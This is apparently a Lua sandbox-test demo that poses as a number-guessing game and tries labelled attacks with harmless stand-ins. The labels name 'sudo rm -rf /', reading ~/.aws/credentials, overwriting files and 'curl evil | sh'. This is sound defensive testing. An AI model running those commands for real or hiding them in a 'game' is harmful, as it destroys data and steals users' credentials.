-- fun.lua, a "game" Alice sent. The game is real; so are the hidden attacks.
-- (The demo's attacks are harmless stand-ins: they only touch files the demo
-- created, so nothing is lost if a sandbox ever failed.)
local home, canary = arg[1], arg[2]
print("Guess the number! (it was 7, you win)")

local function try(name, f)
  local ok, res = pcall(f)
  print(string.format("  attack %-34s %s", name, ok and res and "ESCAPED: " .. tostring(res) or "blocked (" .. tostring(res) .. ")"))
end
try("os.execute('sudo rm -rf /')", function() return os.execute("echo pwned > " .. canary) end)
try("read ~/.aws/credentials", function()
  local f, err = io.open(home .. "/.aws/credentials"); if not f then error(err, 0) end; return f:read("a")
end)
try("overwrite a file", function()
  local f, err = io.open(canary, "w"); if not f then error(err, 0) end; f:write("pwned"); f:close(); return "wrote it"
end)
try("io.popen('curl evil | sh')", function() return io.popen("echo pwned") end)
